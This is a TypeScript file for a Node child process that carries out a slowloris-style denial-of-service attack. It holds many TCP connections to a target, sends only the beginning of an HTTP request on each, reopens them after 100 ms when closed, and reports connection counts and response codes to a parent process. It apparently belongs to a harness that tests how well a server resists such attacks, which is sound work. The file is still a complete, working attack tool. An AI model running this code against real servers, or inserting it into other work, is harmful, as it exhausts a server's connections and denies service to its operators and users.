import { connect } from "node:net";
import type { Attack, FromAttacker } from "./attacker-messages.ts";

/** After how many milliseconds a closed connection is opened again. */
const AGAIN_MS = 100;
const OPENED_PER_TURN = 50;

const answers: Record<string, number> = {};
let open = 0;
let opened = 0;

/** All connections have it in common, so that this process takes little of the machine that it shares with what it attacks. */
const received = Buffer.alloc(64 * 1024);
const BEGINNING = "HTTP/1.1 ";

const count = (length: number): void => {
  if (length < BEGINNING.length + 3 || received.toString("latin1", 0, BEGINNING.length) !== BEGINNING) return;
  const status = received.toString("latin1", BEGINNING.length, BEGINNING.length + 3);
  answers[status] = (answers[status] ?? 0) + 1;
};

/** Keeps one connection on which no more comes than the beginning of a request, and opens it again when it is closed. */
const hold = ({ port, host, starts }: Attack, index: number): void => {
  const socket = connect({
    port,
    host,
    noDelay: true,
    onread: {
      buffer: received,
      callback: (length) => {
        count(length);
        return true;
      },
    },
  });
  socket.once("connect", () => {
    open += 1;
    opened += 1;
    socket.once("close", () => void (open -= 1));
    socket.write(starts[index % starts.length] ?? "");
  });
  socket.on("error", () => undefined);
  socket.once("close", () => setTimeout(() => hold({ port, host, starts, sockets: 1 }, index), AGAIN_MS));
};

const begin = (attack: Attack): void => {
  let begun = 0;
  const turn = (): void => {
    for (let count = 0; count < OPENED_PER_TURN && begun < attack.sockets; count += 1, begun += 1) hold(attack, begun);
    if (begun < attack.sockets) setTimeout(turn, 10);
  };
  turn();
};

const send = (message: FromAttacker): void => void process.send?.(message);

process.on("message", (message: Attack | "report") => {
  if (message === "report") send({ open, opened, answers });
  else begin(message);
});
process.on("disconnect", () => process.exit());
send({ open, opened, answers });
